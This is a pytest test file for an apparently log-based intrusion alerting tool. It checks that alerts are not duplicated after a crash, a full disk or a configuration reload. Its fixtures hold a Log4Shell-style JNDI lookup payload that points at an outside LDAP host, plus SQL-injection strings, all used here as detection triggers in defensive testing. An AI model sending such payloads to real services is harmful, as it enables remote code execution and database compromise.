"""A program killed after the messages file took an alert, before its replay guard recorded it,
adds no second alert line when rsyslog sends the same line to the next program.

The gap is real: the dispatcher writes the messages file, then journald and the store, and only
then remembers the alert in the guard. A CI run hit it (a SIGKILL during a stream of 100,000
lines left one attacker with two alert lines).
"""

from __future__ import annotations

import errno
import json
import os
from pathlib import Path

import pytest

from lwsyslog.alerts import Alert
from lwsyslog.omprog.diagnostics import Diagnostics
from lwsyslog.omprog.options import parse_options
from lwsyslog.omprog.program import OmprogProgram
from lwsyslog.sinks import MessagesFileSink
from lwsyslog.sinks.messages_file import alert_id
from lwsyslog.store.sink import StoreSink
from tests.unit.store_support import make_alert

_ATTACKER = "10.99.14.1"


def _envelope(client: str, agent: str, number: int) -> bytes:
    message = (
        f'{client} - - [07/Dec/2026:09:47:27 +0000] "GET /item?n={number} HTTP/1.1" 200 512 '
        f'"-" "{agent}"'
    )
    record = {
        "host": "web1",
        "tag": "apache-access:",
        "program": "apache-access",
        "time": "2026-12-07T09:47:27+00:00",
        "facility": "local6",
        "severity": "info",
        "msg": message,
    }
    return json.dumps(record).encode()


def _program(work: Path) -> OmprogProgram:
    config = work / "lwsyslog.toml"
    config.write_text("[alerts]\nstorm_max_alerts = 0\n")
    argv = [
        "--config",
        str(config),
        "--state-dir",
        str(work / "state"),
        "--messages-file",
        str(work / "messages"),
        "--no-journald",
    ]
    return OmprogProgram(parse_options(argv), Diagnostics(journal=None))


def _alert_lines(work: Path, client: str = _ATTACKER) -> list[str]:
    text = (work / "messages").read_text(encoding="utf-8")
    return [line for line in text.splitlines() if f"client={client} " in line]


def test_line_sent_again_after_a_kill_between_the_sinks_raises_one_alert(tmp_path: Path) -> None:
    attack = _envelope(_ATTACKER, "${jndi:ldap://198.51.100.9/a}", 35_000)
    child = os.fork()
    if child == 0:  # pragma: no cover - the killed program
        try:

            def killed(self: StoreSink, alert: object) -> None:
                os._exit(9)  # SIGKILL lands after the messages file took the alert

            StoreSink.write = killed  # type: ignore[method-assign]
            program = _program(tmp_path)
            program.handle(_envelope("192.0.2.7", "Mozilla/5.0", 1))
            program.handle(attack)
        finally:
            os._exit(1)
    _, status = os.waitpid(child, 0)
    assert os.waitstatus_to_exitcode(status) == 9
    assert len(_alert_lines(tmp_path)) == 1

    restarted = _program(tmp_path)
    assert restarted.handle(attack) == "OK"
    # The next attacker's line is an alert of its own.
    assert (
        restarted.handle(_envelope("10.99.15.1", "${jndi:ldap://198.51.100.9/b}", 37_500)) == "OK"
    )
    restarted.close()

    assert len(_alert_lines(tmp_path)) == 1
    assert len(_alert_lines(tmp_path, "10.99.15.1")) == 1


def test_alert_already_at_the_end_of_the_file_is_not_written_again(tmp_path: Path) -> None:
    path = tmp_path / "messages"
    first = MessagesFileSink(path)
    first.write(make_alert())
    first.close()

    again = MessagesFileSink(path, skip_written=True)
    again.write(make_alert())
    again.write(make_alert(sample="GET /?id=2%27 UNION SELECT", line=2))
    again.close()
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2
    assert f" id={alert_id(make_alert())} " in lines[0]


def test_sample_quoting_an_id_does_not_hide_that_alert(tmp_path: Path) -> None:
    path = tmp_path / "messages"
    wanted = make_alert(sample="GET /?id=1%27 OR 1=1")
    forged = f"x 1 categories=sqli count=1 id={alert_id(wanted)} y"
    first = MessagesFileSink(path)
    first.write(make_alert(sample=forged))
    first.close()

    again = MessagesFileSink(path, skip_written=True)
    again.write(wanted)
    again.close()
    assert len(path.read_text(encoding="utf-8").splitlines()) == 2


def test_plain_sink_writes_every_alert_it_is_given(tmp_path: Path) -> None:
    """``lwsyslog scan`` run twice over one log writes its alerts twice, as asked."""
    path = tmp_path / "messages"
    for _ in range(2):
        sink = MessagesFileSink(path)
        sink.write(make_alert())
        sink.close()
    assert len(path.read_text(encoding="utf-8").splitlines()) == 2


def test_line_held_across_a_reload_raises_one_alert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The messages file refuses (disk full), the line is held, the operator reloads a
    changed configuration, rsyslog sends the line again: one alert line once the disk is back."""
    full = {"disk": True}
    write = MessagesFileSink.write

    def refusing(self: MessagesFileSink, alert: Alert) -> None:
        if full["disk"]:
            raise OSError(errno.ENOSPC, "No space left on device")
        write(self, alert)

    monkeypatch.setattr(MessagesFileSink, "write", refusing)
    program = _program(tmp_path)
    attack = _envelope(_ATTACKER, "${jndi:ldap://198.51.100.9/a}", 35_000)
    assert program.handle(attack) != "OK"

    (tmp_path / "lwsyslog.toml").write_text("[alerts]\nstorm_max_alerts = 0\ncooldown_secs = 301\n")
    program.reload()
    assert program.handle(attack) != "OK"
    full["disk"] = False
    assert program.handle(attack) == "OK"
    program.close()
    assert len(_alert_lines(tmp_path)) == 1
